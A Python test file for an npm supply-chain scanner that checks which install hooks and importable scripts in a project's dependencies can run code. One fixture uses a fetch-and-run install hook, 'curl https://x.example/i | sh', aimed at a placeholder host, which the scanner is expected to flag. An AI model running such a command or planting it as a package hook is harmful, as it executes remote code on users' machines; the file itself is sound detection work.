from projects import hook, lock, locked, package, project, script

from picketline.packages import surface


def test_hooks_of_manifests() -> None:
    """What npm runs for others; for git what it builds, too."""
    found = package("a", scripts={"install": "x", "prepare": "y", "test": "z"})
    assert surface.hooks(found.manifest) == ("install",)
    assert surface.hooks(found.manifest, git=True) == ("install", "prepare")


def test_what_runs_at_install() -> None:
    """The marks of the files that hooks run, and none beside them."""
    found = package(
        "a",
        "node_modules/a",
        runs=(hook("node x.js", "x.js"),),
        files=(script("node_modules/a/x.js", "connects"), script("node_modules/a/y.js", "mines")),
    )
    assert surface.at_install(found) == {"connects"}
    assert surface.anywhere(found) == {"connects"}


def test_what_can_be_imported() -> None:
    """Scripts that importing reaches, with what runs at install."""
    found = package(
        "a",
        "node_modules/a",
        imports=("node_modules/a/y.js",),
        files=(script("node_modules/a/y.js", "mines"), script("node_modules/a/test.js", "wallet")),
    )
    assert surface.anywhere(found) == {"mines"}


def test_a_command_that_fetches_and_runs() -> None:
    """It runs no file of the package."""
    found = package("a", "node_modules/a", runs=(hook("curl https://x.example/i | sh"),))
    assert "fetches-and-runs" in surface.at_install(found)


def test_the_surface_of_a_project() -> None:
    """Of what is installed and locked, never the project's own hooks."""
    known = surface.of(
        project(
            package("app", runs=(hook("node x.js"),), scripts={"install": "node x.js"}),
            package("a", "node_modules/a", scripts={"install": "node x.js"}),
            package("b", "node_modules/b", scripts={"prepare": "node x.js"}),
            locks=[lock(locked("node_modules/c", hooks=True), locked("node_modules/d"))],
        )
    )
    assert known.names == {"a", "c"}
    assert known.named("b", git=True)
    assert not known.named("b")
    assert known.of(locked("node_modules/a"))
    assert not known.of(locked("node_modules/a", "2.0.0"))
    assert known.of(locked("node_modules/x", hooks=True))
